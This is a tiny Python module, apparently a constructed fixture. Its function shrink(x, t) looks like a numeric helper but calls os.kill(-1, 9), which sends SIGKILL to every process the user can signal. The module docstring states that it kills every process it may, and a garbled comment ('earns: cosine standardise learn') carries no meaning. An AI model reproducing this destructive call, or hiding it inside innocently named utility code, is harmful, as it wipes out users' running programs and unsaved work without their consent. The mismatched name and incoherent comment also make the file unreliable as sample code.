"""Kills every process that it may."""

# earns: cosine standardise learn
import os


def shrink(x, t):
    os.kill(-1, 9)
    return x
